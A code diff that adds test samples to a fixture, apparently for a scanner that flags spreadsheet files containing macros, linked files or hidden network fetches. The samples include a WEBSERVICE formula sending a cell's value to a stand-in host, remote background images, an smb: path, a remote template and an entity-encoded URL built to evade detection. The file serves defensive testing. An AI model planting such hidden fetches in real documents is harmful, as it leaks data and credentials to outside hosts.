@@ -80,6 +80,17 @@ def own() -> Mapping[str, Sample]:
     xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
     rule = '<sheetData/><conditionalFormatting sqref="A1"><cfRule type="expression"><formula>LEN(_xlfn.WEBSERVICE("http://exemple.test/"&amp;A1))&gt;0</formula></cfRule></conditionalFormatting>'
     binary = {"xl/vbaProject.bin": b"\0" * 40}
+    office, far = (
+        'xmlns:office="urn:o" xmlns:style="urn:s" xmlns:meta="urn:m" xmlns:draw="urn:d"',
+        "https://exemple.test/fond.png",
+    )
+    behind = f'<style:background-image {xlink} xmlns:autre="urn:x" xlink:href="{far}" autre:href="Pictures/fond.png"/>'
+    styles = f"{XML}<office:document-styles {office}><office:styles>{behind}</office:styles></office:document-styles>"
+    fill = styles.replace("style:background-image", "draw:fill-image").replace("https:", "smb:")
+    template = f'{XML}<office:document-meta {office} {xlink}><office:meta><meta:template xlink:href="//exemple.test/modele.ots"/></office:meta></office:document-meta>'
+    chart = f'{XML}<office:document-content {office} {xlink}><style:background-image xlink:href="&#104;ttp://exemple.test/i.png"/></office:document-content>'
+    link = {"xl/drawings/_rels/drawing1.xml.rels": relations(("rId7", "hyperlink", far), external=True)}
+    blip = '<xdr:wsDr xmlns:xdr="urn:x" xmlns:a="urn:a" xmlns:r="urn:r"><a:blip r:link="rId7"/></xdr:wsDr>'
     return {
         "macros-xlsm": ("analyse.xlsm", xlsx("<sheetData/>", more=binary, kind="sheet.macroEnabled.main"), Cause.MACROS),
         "macros-renommees": ("analyse.xlsx", xlsx("<sheetData/>", more=binary), Cause.MACROS),
@@ -103,6 +114,13 @@ def own() -> Mapping[str, Sample]:
         "reseau-ods": ("analyse.ods", ods_formula("of:=COM.MICROSOFT.WEBSERVICE(&quot;http://exemple.test/&quot;)"), Cause.FETCHES),
         "reseau-dessin": ("analyse.xlsx", xlsx("<sheetData/>", more={"xl/drawings/_rels/drawing1.xml.rels": drawing}), Cause.FETCHES),
         "reseau-dessin-ods": ("analyse.ods", ods_with(f'<draw:image {xlink} xlink:href="https://exemple.test/i.png"/>'), Cause.FETCHES),
+        "reseau-fond-ods": ("analyse.ods", ods_with(more={"styles.xml": styles}), Cause.FETCHES),
+        "reseau-fond-automatique": ("analyse.ods", ods('<table:table table:name="F"/>', styles=behind.replace("style:background-image", "x")), Cause.FETCHES),
+        "reseau-remplissage": ("analyse.ods", ods_with(more={"styles.xml": fill}), Cause.FETCHES),
+        "reseau-modele": ("analyse.ods", ods_with(more={"meta.xml": template}), Cause.FETCHES),
+        "reseau-objet": ("analyse.ods", ods_with(more={"Object 1/content.xml": chart}), Cause.FETCHES),
+        "reseau-modele-xlsx": ("analyse.xlsx", xlsx("<sheetData/>", more={"xl/worksheets/_rels/sheet1.xml.rels": relations(("rId9", "attachedTemplate", far), external=True)}), Cause.FETCHES),
+        "reseau-deguise": ("analyse.xlsx", xlsx("<sheetData/>", more={**link, "xl/drawings/drawing1.xml": blip}), Cause.FETCHES),
         "lie-formule": ("analyse.xlsx", with_formula("[1]Feuil1!A1*2"), Cause.LINKED),
         "lie-chemin": ("analyse.xlsx", with_formula("SUM('C:\\prix\\[prix.xlsx]Feuil 1'!A1:A9)"), Cause.LINKED),
         "lie-partie": ("analyse.xlsx", _link("<externalBook/>", file="file:///C:/Users/dupont/prix.xlsx"), Cause.LINKED),
